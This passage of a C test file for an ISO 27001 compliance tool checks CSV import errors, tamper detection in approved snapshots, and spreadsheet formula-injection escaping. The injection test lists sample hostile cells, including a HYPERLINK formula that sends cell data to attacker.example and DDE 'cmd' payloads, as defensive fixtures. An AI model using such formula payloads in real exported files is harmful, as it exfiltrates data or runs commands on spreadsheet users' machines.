  g_assert_no_error (error);
  chosen = attest_csv_analyse_soa (csv, strlen (csv), assigned, attest_csv_analysis_get_n_columns (analysis), &error);
  g_assert_true (attest_csv_analysis_check (chosen, &error));
  g_assert_cmpint (attest_csv_analysis_get_how (chosen, 0), ==, ATTEST_CSV_BY_CHOICE);
  g_assert_cmpint (attest_csv_analysis_get_role (chosen, 1), ==, ATTEST_CSV_ROLE_TITLE);
  g_assert_true (attest_csv_apply_soa (workspace, chosen, NULL, &error));
  g_assert_cmpint (attest_record_get_enum (attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.5.2"), "applicability"),
                   ==, ATTEST_APPLICABILITY_NOT_APPLICABLE);
}

static const struct
{
  const char *name;
  const char *csv;
  const char *words;
} bad_csv[] = {
  { "unknown-control", "Control,Applicable\nA.5.1,yes\nA.99.1,yes\n", "line 3: “A.99.1” is not a control" },
  { "unknown-2013", "Control\nA.99.1.1\n", "line 2: “A.99.1.1” is not a control of ISO/IEC 27001:2013" },
  { "bad-applicable", "Control,Applicable\n5.1,maybe\n", "line 2: Applicable must be yes, no" },
  { "bad-status", "Control,Status\n5.1,someday\n", "line 2: Implementation must be" },
  { "bad-date", "Control,Target date\n5.1,31/12/2027\n", "line 2: Target date: “31/12/2027”: Write the date as YYYY-MM-DD" },
  { "impossible-date", "Control,Last reviewed\n5.1,2027-02-30\n", "line 2: Last reviewed: “2027-02-30”: There is no such day: check the month and day" },
  { "bad-reason", "Control,Reasons\n5.1,legal; astrology\n", "line 2: “astrology” is not a reason" },
  { "duplicate", "Control,Applicable\n5.1,yes\n5.2,yes\nA.5.1,no\n", "line 4: control A.5.1 appears again (first on line 2)" },
  { "empty-control", "Control,Applicable\n,yes\n", "line 2: the control is empty" },
  { "no-control-column", "Name,Applicable\nx,yes\n",
    "line 1: no column holds control ids. The columns are “Name” and “Applicable”; one of them should hold ids such as A.5.1" },
  { "two-control-columns", "Control,ID\n5.1,5.1\n", "the columns “Control” and “ID” both hold control ids" },
  { "two-justifications", "Control,Notes,Comments\n5.1,a,b\n", "the columns “Notes” and “Comments” both hold How it is implemented" },
  { "unclosed-quote", "Control,Justification\n5.1,\"never closed\n", "line 2: a quoted field is not closed" },
  { "text-after-quote", "Control,Justification\n5.1,\"a\"b\n", "line 2: text follows a closing quote" },
  { "not-utf8", "Control,Justification\n5.1,caf\xe9\n", "not UTF-8" },
  { "empty", "", "empty" },
};

static void
test_csv_bad (TestDir       *fixture,
              gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "bad.isms");
  g_autofree char *before = attest_json_export (workspace, NULL);
  gint64 rows = attest_store_get_history_count (attest_workspace_get_store (workspace));

  for (guint i = 0; i < G_N_ELEMENTS (bad_csv); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *after = NULL;

      g_assert_false (attest_csv_import_soa (workspace, bad_csv[i].csv, strlen (bad_csv[i].csv), NULL, &error));
      g_test_message ("%s: %s", bad_csv[i].name, error->message);
      if (strstr (error->message, bad_csv[i].words) == NULL)
        g_error ("%s: “%s” does not say “%s”", bad_csv[i].name, error->message, bad_csv[i].words);

      /* All or nothing: the earlier good rows changed nothing either. */
      after = attest_json_export (workspace, NULL);
      g_assert_true (g_str_equal (before, after));
      g_assert_cmpint (attest_store_get_history_count (attest_workspace_get_store (workspace)), ==, rows);
    }
}

/* An approved snapshot edited or cut short outside Attest is damage, never
 * "no changes"; and the history chain notices the edit. */
static void
test_damaged_snapshot (TestDir       *fixture,
                       gconstpointer  data)
{
  static const char * const damage[] = {
    "UPDATE soa_version SET snapshot = substr (snapshot, 1, 500)",
    "UPDATE soa_version SET snapshot = '[]'",
    "UPDATE soa_version SET snapshot = ''",
    "UPDATE soa_version SET snapshot = json_remove (snapshot, '$.\"iso27001:2022/A.5.7\"')",
    "UPDATE soa_version SET snapshot = json_set (snapshot, '$.\"iso27001:2022/A.5.7\"', 'text')",
    /* Valid JSON whose escape names half a surrogate pair: no text. */
    "UPDATE soa_version SET snapshot = json_set (snapshot, '$.\"iso27001:2022/A.5.7\".justification', 'a') "
    "  || ''; UPDATE soa_version SET snapshot = replace (snapshot, '\"justification\":\"a\"', '\"justification\":\"\\ud800\"')",
  };

  for (guint i = 0; i < G_N_ELEMENTS (damage); i++)
    {
      g_autofree char *name = g_strdup_printf ("damaged-%u.isms", i);
      g_autofree char *path = test_dir_path (fixture, name);
      g_autoptr(GError) error = NULL;
      g_autoptr(AttestWorkspace) workspace = attest_workspace_create (path, "Snapshot Ltd", &error);
      g_autoptr(GPtrArray) changes = NULL;

      g_assert_no_error (error);
      g_assert_nonnull (attest_soa_approve (workspace, "Board", NULL, &error));   /* the workspace keeps it */
      g_assert_no_error (error);
      g_clear_object (&workspace);

      test_sqlite_exec (path, damage[i]);
      workspace = attest_workspace_open (path, ATTEST_OPEN_READ_ONLY, &error);
      g_assert_no_error (error);
      changes = attest_soa_diff (workspace, attest_soa_get_approved (workspace), &error);
      g_assert_null (changes);
      g_assert_error (error, ATTEST_ERROR, ATTEST_ERROR_DAMAGED);
      g_assert_nonnull (strstr (error->message, name));
      g_assert_nonnull (strstr (error->message, "version 1"));
      g_clear_error (&error);
      g_assert_false (attest_history_verify (attest_workspace_get_store (workspace), NULL, &error));
      g_assert_error (error, ATTEST_ERROR, ATTEST_ERROR_TAMPERED);
    }
}

/* A cell a spreadsheet would run as a formula is written with a leading
 * apostrophe (the common practice), and exactly that one is taken off on
 * import, so a round trip gives back what was typed. */
static void
test_csv_formula_injection (TestDir       *fixture,
                            gconstpointer  data)
{
  static const char * const texts[] = {
    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "- first bullet\n- second bullet",
    "'already quoted",
    "''two apostrophes",
    "=",
    "plain text, with = inside",
  };
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "source.isms");
  g_autoptr(AttestWorkspace) copy = new_workspace (fixture, "copy.isms");
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *csv = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autofree char *id = g_strdup_printf ("iso27001:2022/A.5.%u", i + 1);

      g_object_set (attest_workspace_lookup_soa_entry (workspace, id),
                    "applicability", ATTEST_APPLICABILITY_NOT_APPLICABLE, "justification", texts[i],
                    "owner", texts[i], NULL);
    }
  csv = attest_csv_export_soa (workspace);

  /* As a spreadsheet reads the file: no cell starts a formula. */
  rows = attest_csv_parse (csv, strlen (csv), NULL, &error);
  g_assert_no_error (error);
  for (guint r = 1; r < rows->len; r++)
    {
      char **cells = g_ptr_array_index (rows, r);

      for (guint c = 0; cells[c] != NULL; c++)
        g_assert_null (strchr ("=+-@\t\r", cells[c][0] == '\0' ? 'x' : cells[c][0]));
    }

  g_assert_true (attest_csv_import_soa (copy, csv, strlen (csv), NULL, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autofree char *id = g_strdup_printf ("iso27001:2022/A.5.%u", i + 1);
      AttestRecord *entry = attest_workspace_lookup_soa_entry (copy, id);

      g_assert_cmpstr (attest_record_get_string (entry, "justification"), ==, texts[i]);
      g_assert_cmpstr (attest_record_get_string (entry, "owner"), ==, texts[i]);
    }

  /* An apostrophe a person typed before ordinary text is theirs. */
  {
    const char *typed = "Control,Applicable,Justification\n5.1,no,'Tis needed\n";

    g_assert_true (attest_csv_import_soa (copy, typed, strlen (typed), NULL, &error));
    g_assert_no_error (error);
    g_assert_cmpstr (attest_record_get_string (attest_workspace_lookup_soa_entry (copy, "iso27001:2022/A.5.1"),
                                               "justification"), ==, "'Tis needed");
  }
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) g_test_add (path, TestDir, NULL, test_dir_setup, func, test_dir_teardown)
  ADD ("/soa/rules", test_rules);
  ADD ("/soa/derived-reason", test_derived_reason);
  ADD ("/soa/justification", test_justification);
  ADD ("/soa/bulk-theme", test_bulk_theme);
  ADD ("/soa/versions", test_versions);
  ADD ("/soa/csv/round-trip", test_csv_round_trip);
  ADD ("/soa/csv/2013", test_csv_2013);
  ADD ("/soa/csv/bad", test_csv_bad);
  ADD ("/soa/csv/formula-injection", test_csv_formula_injection);
  ADD ("/soa/damaged-snapshot", test_damaged_snapshot);
  ADD ("/soa/csv/fixtures", test_csv_fixtures);
  ADD ("/soa/csv/by-content", test_csv_by_content);
  ADD ("/soa/csv/ambiguous", test_csv_ambiguous);
#undef ADD
  g_test_add_func ("/soa/csv/parse", test_csv_parse);

  return g_test_run ();
}
